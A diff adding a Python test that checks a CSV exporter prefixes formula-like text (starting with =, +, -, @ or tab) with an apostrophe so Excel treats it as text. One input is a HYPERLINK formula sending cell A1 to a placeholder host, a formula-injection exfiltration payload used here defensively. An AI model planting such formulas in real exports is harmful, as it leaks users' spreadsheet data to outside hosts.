@@ -282,6 +282,31 @@ def test_export_excel_csv(sample_warehouse, tmp_path):
         assert sum(1 for _ in csv.reader(fh, delimiter=";")) == count + 1
 
 
+def test_excel_csv_never_hands_excel_a_formula(tmp_path):
+    """A text that Excel would run as a formula is written as text; numbers stay numbers."""
+    import csv
+
+    from pipeline.export import write_excel_csv
+
+    con = duckdb.connect()
+    con.execute("CREATE TABLE t (text VARCHAR, n INTEGER, x DOUBLE, tags VARCHAR[])")
+    texts = [
+        '=HYPERLINK("http://x.example/?"&A1,"klikk")',
+        "+47 77 02 60 10",
+        "-20 % utslepp",
+        "@SUM(1)",
+        "\tTab",
+    ]
+    con.executemany(
+        "INSERT INTO t VALUES (?, -3, -1.5, ['=1+1', 'ok'])", [[t] for t in texts + ["Mål: 3 = 3"]]
+    )
+    write_excel_csv(con, "t", tmp_path / "t.csv")
+    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
+        body = list(csv.reader(fh, delimiter=";"))[1:]
+    assert [row[0] for row in body] == ["'" + t for t in texts] + ["Mål: 3 = 3"]
+    assert {(row[1], row[2], row[3]) for row in body} == {("-3", "-1,5", "'=1+1, ok")}
+
+
 def _sample_batch(tmp_path):
     """(root, warehouse): a copy of raw/sample as a batch under a root of its own, and a
     warehouse path beside it."""
